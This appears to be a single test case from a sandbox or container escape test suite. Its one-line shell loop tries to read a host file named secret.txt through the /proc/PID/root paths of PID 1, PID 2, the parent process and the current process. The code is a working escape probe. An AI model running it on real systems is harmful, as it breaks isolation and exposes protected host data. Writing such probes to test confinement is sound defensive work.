# technique: reads the host below /proc/1/root and below /proc/PARENT/root
# source: reference study 4.3 #12; ast-probe L1 escape_proc1_root
# success: the content of outside/secret.txt on the output
# control: outside
# needs: root
for process in 1 2 $PPID self; do cat "/proc/$process/root$OUTSIDE/secret.txt"; done
